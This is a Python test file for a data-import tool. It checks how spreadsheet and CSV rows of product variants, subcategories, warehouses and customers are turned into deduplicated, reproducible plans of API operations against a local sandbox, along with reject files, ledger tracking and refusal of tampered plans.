from __future__ import annotations

import csv
import hashlib
import json
import os
import shlex
import shutil
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import duckdb
import msgspec
import pyarrow as pa
import pytest

from pipelines.cli.console import Reporter
from pipelines.cli.plan import plan
from pipelines.cli.process import prepare_environment
from pipelines.imports import open_inputs
from pipelines.ledger.model import StateChange
from pipelines.ledger.store import Ledger
from pipelines.plan import make
from pipelines.plan.dedupe import partition
from pipelines.plan.make import PlanOptions, PlanResult, make_plan
from pipelines.plan.model import Plan, PlannedOperation
from pipelines.plan.outcomes import DIFFERENCE_SCHEMA
from pipelines.plan.summary import summary
from pipelines.plan.suspicious import SuspiciousValues
from pipelines.pull.model import PullOptions
from pipelines.pull.pull import pull
from pipelines.push.plan_ledger import PlanLedger
from pipelines.warehouse import ops
from pipelines.warehouse.source import DataSource, record_source
from sources.errors import UsageError
from sources.files.formulas import neutralize, people_rows
from sources.kinds import KindName
from tests.pipelines.bridge import Bridge, bridge, command, pulled
from tests.sources.files.workbooks import sheet, text, workbook

FEW: dict[str, Any] = {"customers": 6, "orders": 0, "promotions": 1, "price_lists": 1}
HOST = "http://127.0.0.1:9"
VARIANTS = """
kind = "variants"
[numbers]
decimal = ","
thousands = "."
[columns]
"Producto" = "productId"
"Variante" = "variantId"
"Código" = "sku"
"PVP" = "price"
"Existencias" = "stock"
"""
CUSTOMERS = """
kind = "customers"
[columns]
"Código" = "erpCode"
"Nombre" = "firstName"
"Correo" = "email"
"Teléfono" = "phone"
"NIF" = "documents[0].number"
"""


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A folder to plan in, and settings of a sandbox that nobody asks anything."""
    os.environ.update(
        SOURCES__LEGACY__BASE_URL=HOST,
        SOURCES__LEGACY__API_KEY="none-is-needed",
        SOURCES__LEGACY__ENVIRONMENT="sandbox",
        SOURCES__LEGACY__LOGIN_MODE="email",
        WAREHOUSE__PATH=str(tmp_path / "warehouse.duckdb"),
        DLT_PROJECT_DIR=str(tmp_path),
    )
    prepare_environment()
    os.chdir(tmp_path)
    return tmp_path


def written(folder: Path, rows: str, mapping: str = VARIANTS, encoding: str = "cp1252") -> tuple[Path, Path]:
    """A file and its mapping, as `PlanOptions` takes them."""
    (folder / "in.csv").write_bytes(rows.replace("\n", "\r\n").encode(encoding))
    (folder / "mapping.toml").write_text(mapping, "utf-8")
    return folder / "in.csv", folder / "mapping.toml"


def variants(folder: Path, rows: str, mapping: str = VARIANTS, **more: Any) -> PlanResult:
    files = written(folder, "Producto;Variante;Código;PVP;Existencias\n" + rows, mapping)
    return make_plan(PlanOptions("variants", *files, **more))


def operations(made: PlanResult) -> list[PlannedOperation]:
    return list(Plan(made.folder).operations())


def fates(made: PlanResult) -> dict[int, tuple[str, str]]:
    """Outcome and code of each line that is not sent."""
    return {line.line: (line.outcome, line.code) for line in Plan(made.folder).unsent_lines()}


def files_of(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir()) if path.is_file()}


def adds_up(made: PlanResult) -> None:
    """Each line of the input is in an operation or in `lines.csv`, once."""
    plan = Plan(made.folder)
    sent = {line for operation in plan.operations() for line in operation.lines}
    unsent = [line.line for line in plan.unsent_lines()]
    assert len(sent) + len(unsent) == plan.manifest.lines == sum(plan.manifest.outcomes.values())
    assert not sent & set(unsent)
    assert len(set(unsent)) == len(unsent)
    word = "patch" if plan.manifest.kind == "variants" else "create"
    assert plan.manifest.sent == plan.manifest.outcomes[word] == len(sent)


def confirmed(product: str, variant: str, **fields: Any) -> None:
    """The ledger says that the platform has these."""
    with Ledger.open(Path("ledger.sqlite")) as ledger, ledger.transaction() as connection:
        for name, value in fields.items():
            connection.execute(
                "INSERT INTO confirmed VALUES (?, ?, ?, ?, 1.0, 'before', 0)",
                [HOST, f"/products/{product}/variants/{variant}", name, json.dumps(value)],
            )


# --- variants --------------------------------------------------------------------------------------------------------


def test_rows_that_give_different_fields_keep_their_own(work: Path) -> None:
    rows = "1;11;A;;\n2;22;;5,00;\n3;33;;;7\n4;44;;;\n5;55;E;1,00;2\n"
    made = variants(work, rows)
    sent = {(operation.target, *sorted(operation.body.items())) for operation in operations(made)}
    assert sent == {
        ("/products/1/variants/11", ("sku", "A")),
        ("/products/2/variants/22", ("price", 5)),
        ("/products/3/variants/33", ("stock", 7)),
        ("/products/5/variants/55", ("sku", "E")),
        ("/products/5/variants/55", ("price", 1), ("stock", 2)),
    }
    adds_up(made)


def test_fields_that_may_add_travel_in_a_request_of_their_own(work: Path) -> None:
    made = variants(work, "1;1001;00038;19.367,25;7\n")
    safe, once = operations(made)
    assert (safe.method, safe.path, safe.target) == ("PATCH", *["/products/1/variants/1001"] * 2)
    assert (safe.body, safe.repeatable) == ({"sku": "00038"}, True)
    assert (once.body, once.repeatable) == ({"price": 19367.25, "stock": 7}, False)
    assert (safe.lines, once.lines, safe.id, once.id) == ((2,), (2,), 1, 2)
    assert b'"price":19367.25,' in (made.folder / "operations.jsonl").read_bytes()
    adds_up(made)


def test_what_is_known_to_set_travels_with_the_rest(work: Path) -> None:
    os.environ |= {"SOURCES__LEGACY__STOCK_SEMANTICS": "set", "SOURCES__LEGACY__PRICE_SEMANTICS": "set"}
    (one,) = operations(variants(work, "1;1001;00038;18,00;7\n"))
    assert one.repeatable
    assert one.body == {"sku": "00038", "price": 18, "stock": 7}


def test_only_what_differs_from_the_last_confirmed_is_sent(work: Path) -> None:
    confirmed("1", "1001", sku="00038", price=18.0, stock=7)
    confirmed("1", "1002", sku="00039", price=18.0, stock=7)
    made = variants(work, "1;1001;00038;18,00;7\n1;1002;00039;18,50;7\n")
    (one,) = operations(made)
    assert (one.path, one.body) == ("/products/1/variants/1002", {"price": 18.5})
    assert fates(made) == {2: ("unchanged", "")}
    assert "assumed" in (made.folder / "unchanged.csv").read_text()
    adds_up(made)


def test_a_stock_that_is_set_is_sent_although_it_is_as_last_confirmed(work: Path) -> None:
    os.environ["SOURCES__LEGACY__STOCK_SEMANTICS"] = "set"
    confirmed("1", "1001", sku="00038", price=18.0, stock=39)
    row = "1;1001;00038;18,00;39\n"

    def bodies(mapping: str = VARIANTS, **more: Any) -> list[dict[str, Any]]:
        shutil.rmtree("out", ignore_errors=True)
        return [one.body for one in operations(variants(work, row, mapping, out=Path("out"), **more))]

    changed = VARIANTS.replace('"stock"', '{ field = "stock", send = "changed" }')
    assert bodies() == [{"stock": 39}]
    assert bodies(changed) == []
    assert bodies(changed.replace('"price"', '{ field = "price", send = "always" }')) == [{"price": 18}]
    assert bodies(changed, send_all=True) == [{"sku": "00038", "stock": 39}, {"price": 18}]
    with pytest.raises(UsageError, match="'Existencias': only values of variants that replace others"):
        bodies(changed.replace("send =", "change = true, send ="))


def test_a_price_that_jumps_is_shown(work: Path) -> None:
    confirmed("1", "1001", price=18.0)
    confirmed("1", "1002", price=18.0)
    made = variants(work, "1;1001;a;1.800,00;\n1;1002;b;20,00;\n")
    assert [(jump.line, jump.before, jump.now, jump.power) for jump in made.statistics.jumps] == [
        (2, "18.0", "1800", 2)
    ]
    assert "- line 2: 18.0 → 1800 (about ×100)" in (made.folder / "summary.md").read_text()


def test_changes_are_sent_as_they_stand_and_zeros_left_out(work: Path) -> None:
    os.environ |= {"SOURCES__LEGACY__STOCK_SEMANTICS": "increment"}
    confirmed("1", "1001", stock=7)
    mapping = VARIANTS.replace('"Existencias" = "stock"', '"Existencias" = { field = "stock", change = true }')
    made = variants(work, "1;1001;;;7\n1;1002;;;0\n1;1003;;;-2\n", mapping)
    assert [(one.path[-4:], one.body, one.repeatable) for one in operations(made)] == [
        ("1001", {"stock": 7}, False),
        ("1003", {"stock": -2}, False),
    ]
    assert fates(made) == {3: ("skipped", "")}
    adds_up(made)


def test_changes_that_an_earlier_push_may_have_sent_are_pointed_out(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The platform adds changes: the same file, planned and pushed again, adds them twice, or is not sent again."""
    os.environ |= {"SOURCES__LEGACY__STOCK_SEMANTICS": "increment"}
    mapping = VARIANTS.replace('"Existencias" = "stock"', '"Existencias" = { field = "stock", change = true }')
    first = variants(work, "1;1001;;;7\n1;1002;;;2\n", mapping)
    assert first.earlier_changes is None
    with Ledger.open(work / "ledger.sqlite") as ledger:
        plan_ledger = PlanLedger.record(ledger, Plan(first.folder), 1.0)
        plan_ledger.commit([StateChange(1, "in_flight"), StateChange(2, "in_flight")], 2.0)
        plan_ledger.commit([StateChange(1, "confirmed"), StateChange(2, "rejected")], 3.0)
        foreign = Plan(first.folder)  # changes of another host are not those of this one
        foreign.manifest = msgspec.structs.replace(foreign.manifest, plan_id="foreign", host="https://other.test")
        plan_ledger = PlanLedger.record(ledger, foreign, 1.0)
        plan_ledger.commit([StateChange(2, "in_flight"), StateChange(2, "confirmed")], 3.0)
    same = variants(work, "1;1001;;;7\n1;1002;;;2\n", mapping)
    other = variants(work, "1;1001;;;7\n1;1002;;;3\n", mapping)
    pushed = str(first.folder.absolute())
    assert same.earlier_changes == (1, pushed, True)
    assert other.earlier_changes == (1, pushed, False)
    assert variants(work, "1;1002;;;3\n", mapping).earlier_changes is None
    plan(PlanOptions("variants", work / "in.csv", work / "mapping.toml"), Reporter("plain"))
    assert "This plan was pushed" not in capsys.readouterr().err
    variants(work, "1;1001;;;7\n1;1002;;;2\n", mapping)
    plan(PlanOptions("variants", work / "in.csv", work / "mapping.toml"), Reporter("plain"))
    assert f"pushed before, in {pushed}: 1 change will not be sent again" in capsys.readouterr().err
    with Ledger.open(work / "ledger.sqlite") as ledger:
        plan_ledger = PlanLedger.record(ledger, Plan(other.folder), 4.0)
        plan_ledger.commit([StateChange(2, "in_flight")], 5.0)
        plan_ledger.commit([StateChange(2, "confirmed")], 6.0)
    partly = variants(work, "1;1001;;;7\n1;1002;;;2\n", mapping)
    assert partly.earlier_changes == (1, str(other.folder.absolute()), False)  # only 1001 was sent by this plan
    with Ledger.open(work / "ledger.sqlite") as ledger:
        plan_ledger = PlanLedger(ledger, other.manifest.plan_id)
        # before the first plan's was confirmed
        plan_ledger.commit([StateChange(1, "in_flight"), StateChange(1, "confirmed")], 2.5)
    assert variants(work, "1;1001;;;1\n", mapping).earlier_changes == (1, pushed, False)
    given_up = variants(work, "1;1003;;;4\n1;1004;;;4\n", mapping)
    with Ledger.open(work / "ledger.sqlite") as ledger:
        plan_ledger = PlanLedger.record(ledger, Plan(given_up.folder), 7.0)
        plan_ledger.commit([StateChange(1, "in_flight"), StateChange(1, "in_doubt", doubt_at=7.0)], 7.0)
        plan_ledger.commit([StateChange(1, "abandoned"), StateChange(2, "abandoned")], 8.0)  # the second was not sent
    again = variants(work, "1;1003;;;5\n1;1004;;;5\n", mapping)
    assert again.earlier_changes == (1, str(given_up.folder.absolute()), False)


def test_the_semantics_of_additive_fields_are_part_of_the_plan(work: Path) -> None:
    first = variants(work, "1;1;a;1,00;7\n")
    os.environ |= {"SOURCES__LEGACY__STOCK_SEMANTICS": "set"}
    second = variants(work, "1;1;a;1,00;7\n")
    assert [made.manifest.semantics for made in (first, second)] == [
        {"price": "unknown", "stock": "unknown"},
        {"price": "unknown", "stock": "set"},
    ]
    assert first.manifest.plan_id != second.manifest.plan_id
    os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "code"}
    assert variants(work, "1;1;a;1,00;7\n").manifest.plan_id == second.manifest.plan_id  # variants do not log in


def test_a_column_of_changes_must_say_so(work: Path) -> None:
    os.environ |= {"SOURCES__LEGACY__STOCK_SEMANTICS": "increment"}
    with pytest.raises(UsageError, match="change"):
        variants(work, "1;1001;;;7\n")


def test_lines_that_say_the_same_are_sent_once_and_contradictions_not_at_all(work: Path) -> None:
    rows = "1;1;a;1,5;1\n1;2;b;2,5;2\n1;1;a;1,50;1\n1;2;b;2,5;3\n1;2;b;2,5;2\n1;3;c;3,5;3\n"
    made = variants(work, rows)
    assert {one.path for one in operations(made)} == {"/products/1/variants/1", "/products/1/variants/3"}
    assert fates(made) == {
        3: ("rejected", "conflicting_lines"),
        4: ("merged", ""),
        5: ("rejected", "conflicting_lines"),
        6: ("rejected", "conflicting_lines"),
    }
    assert [line.same_as for line in Plan(made.folder).unsent_lines()] == [None, 2, None, None]
    assert made.exit_code == 5
    adds_up(made)


def test_a_line_like_one_that_is_unchanged_is_unchanged_too(work: Path) -> None:
    confirmed("1", "1", sku="a")
    made = variants(work, "1;1;a;;\n1;1;a;;\n")
    assert fates(made) == {2: ("unchanged", ""), 3: ("unchanged", "")}
    assert made.manifest.operations == 0
    assert "- nothing to send\n" in (made.folder / "summary.md").read_text()


def test_problems_of_columns_named_with_the_sign_between_problems_are_reported_apart(work: Path) -> None:
    mapping = VARIANTS.replace('"PVP" = "price"', '"PVP | IVA" = "price"\n"Color | Talla" = "attributes.Color | Talla"')
    rows = "Producto;Variante;Código;PVP | IVA;Existencias;Color | Talla\n17;3;A;x;y;#N/A\n17;4;B;1;2;R\n"
    made = make_plan(PlanOptions("variants", *written(work, rows, mapping)))
    assert sorted((reason.field, reason.code, reason.first) for reason in made.statistics.reasons) == [
        ("attributes.Color / Talla", "cell_error", [2]),
        ("price", "not_a_number", [2]),
        ("stock", "not_a_number", [2]),
    ]
    adds_up(made)


def test_the_reject_file_corrected_goes_through_as_it_is(work: Path) -> None:
    made = variants(work, "1;1001;Ñ1;gratis;7\n1;1002;b;2,5;x\n1;1003;c;3,5;3\n", out=work / "first")
    rejects = (made.folder / "rejects.csv").read_bytes().decode("cp1252")
    assert rejects.startswith("Producto;Variante;Código;PVP;Existencias;line;field;code;words\r\n1;1001;Ñ1;gratis;7;2;")
    assert made.exit_code == 5
    (work / "again.csv").write_bytes(rejects.replace("gratis", "1,5").replace(";x;", ";2;").encode("cp1252"))
    again = make_plan(PlanOptions("variants", work / "again.csv", work / "mapping.toml"))
    assert again.exit_code == 0
    assert [one.body for one in operations(again)] == [
        {"sku": "Ñ1"},
        {"price": 1.5, "stock": 7},
        {"sku": "b"},
        {"price": 2.5, "stock": 2},
    ]


def test_rejects_are_read_as_the_whole_file_was(work: Path) -> None:
    reported = VARIANTS.replace('decimal = ","\nthousands = "."\n', "")
    made = variants(work, "1;1;a;1.234,5;1\n1;2;b;1.234;x\n", reported)  # the first price proves how they are written
    assert fates(made) == {3: ("rejected", "not_a_number")}
    fixed = (made.folder / "rejects.csv").read_text("cp1252").replace(";x;", ";2;")
    (work / "fixed.csv").write_text(fixed, "cp1252")
    again = make_plan(PlanOptions("variants", work / "fixed.csv", made.folder / "mapping.toml"))
    assert [one.body for one in operations(again)] == [{"sku": "b"}, {"price": 1234, "stock": 2}]
    assert f"plan variants {made.folder}/rejects.csv --mapping {made.folder}/mapping.toml" in summary(
        made.manifest, made.statistics, made.folder
    )


def test_a_workbook_is_planned_as_a_file_of_text_is(work: Path) -> None:
    rows = [["Producto", "Variante", "Código", "PVP"], ["1", "1001", "00038", "19367.25"], ["1", "1002", "Ñ", "no"]]
    cells = (
        (at, "".join(text(f"{'ABCD'[n]}{at}", cell) for n, cell in enumerate(row))) for at, row in enumerate(rows, 1)
    )
    book = workbook(work, ("Hoja", sheet(*cells)))
    mapping = (
        VARIANTS.replace('"Existencias" = "stock"\n', "")
        .replace('","', '"."')
        .replace('thousands = "."', 'thousands = ""')
    )
    (work / "m.toml").write_text(mapping, "utf-8")
    made = make_plan(PlanOptions("variants", book, work / "m.toml"))
    assert [one.body for one in operations(made)] == [{"sku": "00038"}, {"price": 19367.25}]
    assert fates(made) == {3: ("rejected", "not_a_number")}
    assert (made.folder / "rejects.csv").read_text("utf-8-sig").splitlines()[1].startswith("1,1002,Ñ,no,3,price,")
    adds_up(made)


def test_a_skipped_line_is_reported_with_what_it_lacks(work: Path) -> None:
    (work / "in.csv").write_text("productId,variantId,sku\n1,1,A\n1,2,\n1,3,\n", "utf-8")
    made = make_plan(PlanOptions("variants", work / "in.csv"))
    assert fates(made) == {3: ("skipped", ""), 4: ("skipped", "")}
    assert "\n- 2 lines skipped: no field has a value (lines 3, 4)\n" in (made.folder / "summary.md").read_text("utf-8")
    mapping = VARIANTS + '[rows]\nskip_blank = ["PVP"]\n'
    reported = (variants(work, "1;1;A;;\n1;2;;1,5;\n", mapping).folder / "summary.md").read_text("utf-8")
    assert "\n- 1 line skipped: PVP: empty (line 2)\n" in reported


def test_operations_stand_in_batches(work: Path) -> None:
    made = variants(work, "".join(f"1;{n};s{n};;\n" for n in range(5)), batch_size=2)
    assert [one.batch for one in operations(made)] == [1, 1, 2, 2, 3]
    assert [one.id for one in operations(made)] == [1, 2, 3, 4, 5]


# --- the folder ------------------------------------------------------------------------------------------------------


def test_a_file_of_the_plan_that_has_nothing_to_tell_has_its_header(work: Path) -> None:
    made = variants(work, "1;11;A;;\n")
    assert (made.folder / "rejects.csv").read_text("cp1252").splitlines() == [
        "Producto;Variante;Código;PVP;Existencias;line;field;code;words"
    ]
    assert (made.folder / "unchanged.csv").read_text() == "\ufeffline;outcome;same_as;id;evidence\n"
    assert (made.folder / "differences.csv").read_text() == (
        "\ufeffline;outcome;customer_id;field;file_value;platform_value\n"
    )


def test_the_same_input_gives_the_same_bytes_anywhere_and_at_any_time(work: Path) -> None:
    rows = "".join(f"1;{n};s{n};{n},5;{n}\n" for n in range(30)) + "1;3;x;1,5;1\n1;4;s4;4,5;4\n1;99;x;no;1\n"
    first = variants(work, rows, out=work / "first")
    expected = files_of(first.folder)
    assert set(expected) == {
        "plan.json",
        "operations.jsonl",
        "mapping.toml",
        "lines.csv",
        "rejects.csv",
        "unchanged.csv",
        "differences.csv",
        "summary.md",
        ".gitignore",
    }
    elsewhere = work / "elsewhere"
    elsewhere.mkdir()
    for seed, zone in (("1", "UTC"), ("2", "Asia/Tokyo")):
        env = {**os.environ, "PYTHONHASHSEED": seed, "TZ": zone, "PYTHONWARNINGS": "error"}
        arguments = ["plan", "variants", "../in.csv", "--mapping", "../mapping.toml", "--out", f"plan{seed}"]
        done = command(*arguments, env=env, cwd=elsewhere)
        assert done.code == 5, done.said
        assert files_of(elsewhere / f"plan{seed}") == expected


def test_a_folder_whose_name_is_not_utf_8_is_refused(work: Path) -> None:
    with pytest.raises(UsageError, match="not UTF-8"):
        variants(work, "1;1;a;;\n", out=work / "\udcff")
    assert not list(work.glob(".orderbridge-plan-*"))


def test_another_input_or_mapping_is_another_plan(work: Path) -> None:
    made = [
        variants(work, "1;1;a;;\n"),
        variants(work, "1;1;b;;\n"),
        variants(work, "1;1;b;;\n", VARIANTS + "# another\n"),
    ]
    assert len({one.manifest.plan_id for one in made}) == 3
    assert len({one.folder.name for one in made}) == 3


def test_planning_again_finds_the_very_same_plan_also_with_corrected_rejects(work: Path) -> None:
    first = variants(work, "1;1;a;;\n")
    (first.folder / "rejects.csv").write_text("corrected")
    again = variants(work, "1;1;a;;\n")
    assert (first.is_new, again.is_new) == (True, False)
    assert first.folder == again.folder


def test_the_plan_of_another_organization_is_kept_beside(work: Path) -> None:
    first = variants(work, "1;1;a;;\n")
    (first.folder / "plan.json").write_text("{}")
    again, third = (variants(work, "1;1;a;;\n") for _ in range(2))
    assert (again.folder.name, again.is_new) == (f"{first.folder.name}-2", True)
    assert (third.folder, third.is_new) == (again.folder, False)


def test_a_folder_with_another_plan_is_refused_and_kept(work: Path) -> None:
    variants(work, "1;1;a;;\n", out=work / "plan")
    before = files_of(work / "plan")
    with pytest.raises(UsageError, match="exists already, with other content"):
        variants(work, "1;1;b;;\n", out=work / "plan")
    assert files_of(work / "plan") == before
    assert not [path for path in work.iterdir() if path.name.startswith(".")]


def test_a_link_to_itself_is_no_file(work: Path) -> None:
    (work / "loop").symlink_to("loop")
    for files in (work / "loop", None), (work / "in.csv", work / "loop"):
        with pytest.raises(UsageError, match="cannot be read: Too many levels of symbolic links"):
            make_plan(PlanOptions("variants", *files))


@pytest.mark.parametrize("name", ["in.csv", "mapping.toml"])
def test_a_file_that_is_changed_after_it_was_opened_is_not_planned(
    work: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    def opened(*given: Any, **options: Any) -> Any:
        inputs = open_inputs(*given, **options)
        (work / name).write_bytes((work / name).read_bytes() + b"\n")
        return inputs

    monkeypatch.setattr(make, "open_inputs", opened)
    with pytest.raises(UsageError, match="was changed while it was planned"):
        variants(work, "1;1;a;;\n")


@pytest.mark.parametrize("name", ["operations.jsonl", "lines.csv", "plan.json"])
def test_a_changed_plan_is_refused(work: Path, name: str) -> None:
    made = variants(work, "1;1;a;;\n1;2;b;x;\n")
    path = made.folder / name
    path.write_bytes(path.read_bytes().replace(b"a", b"", 1))
    with pytest.raises(UsageError, match="was changed after the plan was made"):
        Plan(made.folder)


def test_the_manifest_has_what_the_plan_depends_on(work: Path) -> None:
    made = variants(work, "1;1;a;;\n")
    manifest = Plan(made.folder).manifest
    assert manifest.input.path == str((work / "in.csv").resolve())
    assert manifest.input.sha256 == hashlib.sha256((work / "in.csv").read_bytes()).hexdigest()
    assert manifest.mapping is not None
    assert manifest.mapping.path == str((work / "mapping.toml").resolve())
    assert (manifest.host, manifest.environment, manifest.read) == (HOST, "sandbox", None)
    assert manifest.format["encoding"] == "cp1252" or manifest.format["encoding"] == "utf-8"


def test_a_plan_names_the_organization_of_a_warehouse_with_the_data_of_its_host(work: Path) -> None:
    """Also of a kind that is not compared with the warehouse. Its id stays: changes of stock are not added twice."""
    unknown = variants(work, "1;1;a;;\n", out=work / "unknown").manifest
    found = []
    for number, host in enumerate((urlsplit(HOST).netloc, None, "other.example")):
        path = work / f"{number}.duckdb"
        with duckdb.connect(str(path)) as connection:
            ops.create_missing(connection)
            record_source(
                connection, DataSource(host, host, "sandbox", "org-2"), "run", datetime(2026, 1, 1, tzinfo=UTC)
            )
        os.environ["WAREHOUSE__PATH"] = str(path)
        found.append(variants(work, "1;1;a;;\n", out=work / str(number)).manifest)
    assert [manifest.organization for manifest in [unknown, *found]] == [None, "org-2", "org-2", None]
    assert {manifest.plan_id for manifest in found} == {unknown.plan_id}
    os.environ["WAREHOUSE__PATH"] = str(work / "0.duckdb")
    options = ("--mapping", "mapping.toml", "--out", "0", "--log", "json")
    done = command("plan", "variants", "in.csv", *options, env=dict(os.environ), cwd=work)
    assert json.loads(done.out)["organization"] == "org-2", done.said


def test_a_plan_that_does_not_need_the_warehouse_is_made_without_a_usable_one(
    work: Path, caplog: pytest.LogCaptureFixture
) -> None:
    os.environ["WAREHOUSE__PATH"] = str(work / "w.duckdb")
    (work / "w.duckdb").write_text("no database")
    manifest = variants(work, "1;1;a;;\n").manifest
    assert manifest.organization is None
    (record,) = caplog.records
    assert "w.duckdb is not a DuckDB file" in record.getMessage()
    assert "does not name the organization" in record.getMessage()


def test_a_file_that_changes_while_it_is_planned_is_no_plan(work: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def changed(*arguments: Any) -> Any:
        (work / "in.csv").write_bytes(b"Producto;Variante\n")
        return partition(*arguments)

    monkeypatch.setattr("pipelines.plan.make.partition", changed)
    with pytest.raises(UsageError, match="changed while it was planned"):
        variants(work, "1;1;a;;\n")
    assert sorted(path.name for path in work.iterdir()) == ["in.csv", "mapping.toml"]


def test_a_folder_that_cannot_be_written_is_reported(work: Path) -> None:
    with pytest.raises(UsageError, match="no plan can be written"):
        variants(work, "1;1;a;;\n", out=work / "not" / "there")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="limits of a file's size are set as Linux does")
def test_a_full_disk_leaves_nothing(work: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import resource

    monkeypatch.setattr(sys, "dont_write_bytecode", True)  # under the limit, a truncated .pyc would break the next run

    rows = "".join(f"1;{n};{'s' * 50};;\n" for n in range(2000))
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    files = written(work, "Producto;Variante;Código;PVP;Existencias\n" + rows)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, hard))
    try:
        with pytest.raises(UsageError, match="no plan can be written"):
            make_plan(PlanOptions("variants", *files))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert sorted(path.name for path in work.iterdir()) == ["in.csv", "mapping.toml"]


def test_corrected_rejects_have_the_cells_that_were_filled_from_lines_above(work: Path) -> None:
    mapping = VARIANTS.replace("[columns]", '[rows]\nfill_down = ["PVP"]\nfill_within = ["Producto"]\n[columns]')
    rows = "1;1;a;5;1\n1;2;b;;x\n1;3;c;7;1\n1;4;d;;x\n2;5;e;;x\n3;6;f;8;9;9\n3;7;g;;1\n"
    made = variants(work, rows, mapping)
    rejects = made.folder / "rejects.csv"
    _, *lines = csv.reader(rejects.read_text("cp1252").splitlines(), delimiter=";")
    assert [cells[3] for cells in lines] == ["5", "7", "", "8", ""]
    assert [cells[-2] for cells in lines] == ["not_a_number", "not_a_number", "not_a_number", "too_long", "fill_torn"]
    rejects.write_bytes(rejects.read_bytes().replace(b";x;", b";2;").replace(b";8;9;9;", b";;9;"))
    corrected = make_plan(PlanOptions("variants", rejects, work / "mapping.toml"))
    sent = {(one.path, name): value for one in operations(corrected) for name, value in one.body.items()}
    prices = {path[-1]: value for (path, name), value in sent.items() if name == "price"}
    assert (prices, {path[-1] for path, _ in sent}) == ({"2": 5, "4": 7}, {"2", "4", "5"})
    assert fates(corrected) == {5: ("rejected", "fill_torn"), 6: ("rejected", "fill_torn")}


# --- creates that cannot be looked up --------------------------------------------------------------------------------


def test_subcategories_are_told_apart_by_category_and_name(work: Path) -> None:
    mapping = 'kind = "subcategories"\n[columns]\n"Categoría" = "categoryId"\nNombre = "name"\n'
    files = written(work, "Categoría;Nombre\n7;Té\n7;Café\n8;Té\n7;Té\n", mapping)
    made = make_plan(PlanOptions("subcategories", *files))
    assert [(one.path, one.body, one.repeatable) for one in operations(made)] == [
        ("/categories/7/subcategories", {"name": "Té"}, False),
        ("/categories/7/subcategories", {"name": "Café"}, False),
        ("/categories/8/subcategories", {"name": "Té"}, False),
    ]
    assert fates(made) == {5: ("merged", "")}


@pytest.mark.parametrize(
    ("kind", "head", "before", "after", "fate"),
    [
        ("subcategories", "categoryId,name,order", "7,Té,1", "7,Té,2", "exists_differs"),
        ("subcategories", "categoryId,name,order", "7,Té,1", "7,Té,1", "unchanged"),
        ("subcategories", "categoryId,name,order", "7,Té,1", "8,Té,1", None),
        (
            "warehouses",
            "name,isDefault,location.line,code",
            "Sur,false,C 1,S",
            "Sur,false,C 2,S",
            "exists_differs",
        ),
        ("warehouses", "name,isDefault,location.line,code", "Sur,false,C 1,S", "Sur,false,C 1,T", None),
        ("warehouses", "name,isDefault,location.line", "Sur,false,C 1", "Sur,false,C 2", "exists_differs"),
    ],
)
def test_what_was_created_before_with_other_values_is_not_created_again(
    work: Path, kind: KindName, head: str, before: str, after: str, fate: str | None
) -> None:
    file = work / "erp.csv"
    file.write_text(f"{head}\n{before}\n", "utf-8")
    first = Plan(make_plan(PlanOptions(kind, file, out=work / "first")).folder)
    with Ledger.open(work / "ledger.sqlite") as ledger:
        book = PlanLedger.record(ledger, first, 1.0)
        book.commit([StateChange(1, "in_flight")], 2.0)
        book.commit([StateChange(1, "confirmed")], 2.0)
    file.write_text(f"{head}\n{after}\n", "utf-8")
    second = make_plan(PlanOptions(kind, file, out=work / "second"))
    assert fates(second) == ({2: (fate, "")} if fate else {})
    assert len(operations(second)) == (0 if fate else 1)
    has_note = "created before with other values" in (work / "second/summary.md").read_text("utf-8")
    assert has_note == (fate == "exists_differs")


# --- customers -------------------------------------------------------------------------------------------------------


@contextmanager
def working(platform: Bridge) -> Iterator[Bridge]:
    """A folder to plan in."""
    os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "email"}
    work = platform.folder.parent / "work"
    work.mkdir()
    os.chdir(work)
    yield platform


@pytest.fixture
def platform(tmp_path: Path) -> Iterator[Bridge]:
    """A sandbox that was pulled, and a folder to plan in."""
    with pulled(tmp_path, **FEW) as made, working(made):
        yield made


@pytest.fixture
def unread(tmp_path: Path) -> Iterator[Bridge]:
    """The same before the pull."""
    with bridge(tmp_path, **FEW) as made, working(made):
        yield made


def customers(rows: str, mapping: str = CUSTOMERS, **more: Any) -> PlanResult:
    files = written(Path.cwd(), "Código;Nombre;Correo;Teléfono;NIF\n" + rows, mapping)
    more.setdefault("passwords", "mail")
    return make_plan(PlanOptions("customers", *files, **more))


def test_customers_are_sorted_by_what_the_platform_has(platform: Bridge) -> None:
    first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
    rows = [
        "NEW1;Ana;ana@example.com;;N1",
        f"{first['erp_code']};{first['first_name']};{first['email'].upper()};;",
        f"{second['erp_code']};Otra;{second['email']};;",
        f"{first['erp_code']};Ana;{second['email']};;X",
        "NEW1;Ana;ana@example.com;;N1",
    ]
    made = customers("\n".join(rows[:3] + rows[4:]) + "\n")
    (one,) = operations(made)
    assert (one.method, one.path, one.target, one.password) == ("POST", "/customers", "customers/2", "mailed")
    assert one.keys == {"erpCode": "NEW1", "email": "ana@example.com"}
    assert one.body == {
        "erpCode": "NEW1",
        "firstName": "Ana",
        "email": "ana@example.com",
        "notification": {"send": True, "withCredentials": True},
        "documents": [{"number": "N1"}],
    }
    assert fates(made) == {3: ("exists_same", ""), 4: ("exists_differs", ""), 5: ("merged", "")}
    (reported,) = people_rows(made.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
    assert reported == {
        "line": "4",
        "outcome": "exists_differs",
        "customer_id": second["id"],
        "field": "firstName",
        "file_value": "Otra",
        "platform_value": second["first_name"],
    }
    assert made.exit_code == 0
    assert made.manifest.read is not None
    assert (made.manifest.read.rows, made.manifest.organization) == (6, "Distribuidora Peña S.A.C.")
    adds_up(made)
    assert made.statistics.suspicious == []
